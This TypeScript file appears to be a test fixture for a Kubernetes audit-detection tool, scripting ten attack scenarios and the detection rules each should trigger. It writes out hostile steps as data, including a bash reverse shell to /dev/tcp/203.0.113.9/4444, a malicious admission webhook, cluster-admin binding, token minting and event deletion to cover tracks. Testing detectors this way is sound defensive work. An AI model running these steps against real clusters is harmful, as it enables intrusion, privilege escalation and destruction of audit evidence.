import type { JsonObject } from "@watertight/core/kubernetes";
import { until } from "../control-plane/index.ts";
import { identity, identityOf, must, type World } from "./story-world.ts";

/** An attack as it is walked, and what is to be told of it. */
export interface Story {
  readonly name: string;
  /** Who is the root. */
  readonly root: string;
  readonly walk: (world: World) => Promise<void>;
  /** Rules in the order in which their first steps come, and what else the timeline must hold, as `kind subject`. */
  readonly rules: readonly string[];
  readonly steps: readonly string[];
}

/** Attackers have stolen what they ask with. */
export const ATTACKERS: readonly string[] = Array.from(
  { length: 10 },
  (_, index) => `attacker-${index}`,
);

const RBAC = "/apis/rbac.authorization.k8s.io/v1";
const CSR = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
const HOOKS = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations";

/** A request for CN=eve-6, O=ops; nobody has its key any more. */
const REQUEST = `-----BEGIN CERTIFICATE REQUEST-----
MIHYMIGAAgEAMB4xDjAMBgNVBAMMBWV2ZS02MQwwCgYDVQQKDANvcHMwWTATBgcq
hkjOPQIBBggqhkjOPQMBBwNCAATzfr5LrkGrAUnTTV5cPeFigavYHcrFZSD7IdAx
/vW5SnvIo35XizuF4QwAaOHwQaVS6D0vIz8biGsLqV063G1AoAAwCgYIKoZIzj0E
AwIDRwAwRAIgP6daiCAt2KsDFmTBEq+P+2REeU7jHAPIy47xp4M2Y9UCIAR62WZY
5/djRZTtDo9Xf16eWsyv1/qgLHhWHWFI0PNz
-----END CERTIFICATE REQUEST-----
`;

export const STORIES: readonly Story[] = [
  {
    name: "anonymous probing",
    root: "system:anonymous",
    walk: async ({ plane }) => {
      const nobody = identity(plane, "");
      for (let path = 0; path < 12; path++) await nobody("GET", `/apis/group-${path}`);
      nobody.close();
    },
    rules: ["anonymous-probing"],
    steps: [],
  },
  {
    name: "secret sweep",
    root: "attacker-1",
    walk: async ({ as }) => {
      for (let secret = 0; secret < 16; secret++)
        await as("attacker-1")("GET", `/api/v1/namespaces/victim/secrets/s-${secret}`);
      await as("attacker-1")("GET", "/api/v1/secrets");
    },
    rules: ["secrets-read", "secrets-listed-everywhere"],
    steps: ["detection secrets victim/s-0", "detection secrets victim/s-15", "detection secrets"],
  },
  {
    name: "privileged pod by a controller",
    root: "attacker-2",
    walk: async ({ as, plane }) => {
      const deployments = "/apis/apps/v1/namespaces/victim/deployments";
      await must(as("attacker-2")("POST", deployments, deployment("miner")));
      await until("the pod of the Deployment is there", async () => {
        const { text } = await plane.ask(
          "GET",
          "/api/v1/namespaces/victim/pods?labelSelector=app%3Dminer",
        );
        return text.includes('"phase":"Running"') || text.includes('"nodeName"');
      });
    },
    rules: ["privileged-pod"],
    steps: [
      "detection deployments victim/miner",
      "consequence replicasets victim/miner-",
      "consequence pods victim/miner-",
    ],
  },
  {
    name: "binding to cluster-admin",
    root: "attacker-3",
    walk: async ({ as, plane }) => {
      const subjects = [{ kind: "User", name: "friend", apiGroup: "rbac.authorization.k8s.io" }];
      const roleRef = {
        apiGroup: "rbac.authorization.k8s.io",
        kind: "ClusterRole",
        name: "cluster-admin",
      };
      await must(
        as("attacker-3")("POST", `${RBAC}/clusterrolebindings`, {
          metadata: { name: "help" },
          roleRef,
          subjects,
        }),
      );
      await until(
        "the friend may",
        async () => (await identityOf(plane, "friend")("GET", "/api/v1/secrets")).status === 200,
      );
    },
    rules: ["privileged-role-bound", "secrets-listed-everywhere"],
    steps: ["detection clusterrolebindings help", "detection secrets"],
  },
  {
    name: "token minting",
    root: "attacker-4",
    walk: async ({ as, plane }) => {
      const path = "/api/v1/namespaces/victim/serviceaccounts/robot/token";
      const { json } = await must(as("attacker-4")("POST", path, { spec: {} }));
      const { status } = json as { readonly status: { readonly token: string } };
      const robot = identity(plane, status.token);
      await must(robot("GET", "/api/v1/secrets"), 200);
      robot.close();
    },
    rules: ["service-account-token-requested", "secrets-listed-everywhere"],
    steps: ["detection serviceaccounts/token victim/robot", "detection secrets"],
  },
  {
    name: "certificate of somebody else",
    root: "attacker-5",
    walk: async ({ as }) => {
      const spec = {
        request: Buffer.from(REQUEST).toString("base64"),
        signerName: "kubernetes.io/kube-apiserver-client",
        usages: ["client auth"],
      };
      await must(as("attacker-5")("POST", CSR, { metadata: { name: "csr" }, spec }));
      const now = new Date().toISOString();
      const condition = { type: "Approved", status: "True", reason: "x", lastUpdateTime: now };
      const patch = { status: { conditions: [condition] } };
      await must(as("attacker-5")("PATCH", `${CSR}/csr/approval`, patch), 200);
    },
    rules: ["certificate-requested"],
    steps: [
      "detection certificatesigningrequests csr",
      "detection certificatesigningrequests/approval csr",
    ],
  },
  {
    name: "webhook hijack",
    root: "attacker-6",
    walk: async ({ as }) => {
      const webhooks = [
        {
          name: "x.evil.example",
          clientConfig: { url: "https://203.0.113.9/x" },
          rules: [
            {
              apiGroups: ["x.example"],
              apiVersions: ["v1"],
              operations: ["CREATE"],
              resources: ["none"],
            },
          ],
          sideEffects: "None",
          admissionReviewVersions: ["v1"],
          failurePolicy: "Ignore",
        },
      ];
      await must(as("attacker-6")("POST", HOOKS, { metadata: { name: "helper" }, webhooks }));
      await must(
        as("attacker-6")("PATCH", `${HOOKS}/helper`, { metadata: { labels: { a: "b" } } }),
        200,
      );
    },
    rules: ["admission-webhook-created", "admission-webhook-changed"],
    steps: ["detection mutatingwebhookconfigurations helper"],
  },
  {
    name: "exec with a reverse shell",
    root: "attacker-7",
    walk: async ({ exec }) => {
      const shell = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"];
      const status = await exec("attacker-7", "target", shell);
      if (status !== 101) throw new Error(`The exec was answered with ${status}.`);
    },
    rules: ["exec-into-pod", "exec-reverse-shell"],
    steps: ["detection pods/exec victim/target"],
  },
  {
    name: "nodes/proxy",
    root: "attacker-8",
    walk: async ({ as }) => {
      await as("attacker-8")("GET", "/api/v1/nodes/open/proxy/run/victim/target/app?cmd=id");
    },
    rules: ["nodes-proxy-used"],
    steps: ["detection nodes/proxy open"],
  },
  {
    name: "covering tracks",
    root: "attacker-9",
    walk: async ({ as, plane }) => {
      const pods = "/api/v1/namespaces/victim/pods";
      const containers = [{ name: "a", image: "i", securityContext: { privileged: true } }];
      await must(
        as("attacker-9")("POST", pods, { metadata: { name: "flash" }, spec: { containers } }),
      );
      // The scheduler tells of a pod only where it was faster than the deletion.
      await until("the pod has an event to be covered", async () => {
        const { text } = await plane.ask(
          "GET",
          "/api/v1/namespaces/victim/events?fieldSelector=involvedObject.name%3Dflash",
        );
        return text.includes('"reason":"Scheduled"');
      });
      await must(as("attacker-9")("DELETE", `${pods}/flash?gracePeriodSeconds=0`), 200);
      await must(as("attacker-9")("DELETE", "/api/v1/namespaces/victim/events"), 200);
    },
    rules: ["privileged-pod", "events-deleted"],
    steps: ["detection pods victim/flash", "activity pods victim/flash", "detection events victim"],
  },
];

function deployment(name: string): JsonObject {
  const containers = [{ name: "a", image: "i", securityContext: { privileged: true } }];
  return {
    metadata: { name },
    spec: {
      selector: { matchLabels: { app: name } },
      template: { metadata: { labels: { app: name } }, spec: { containers } },
    },
  };
}
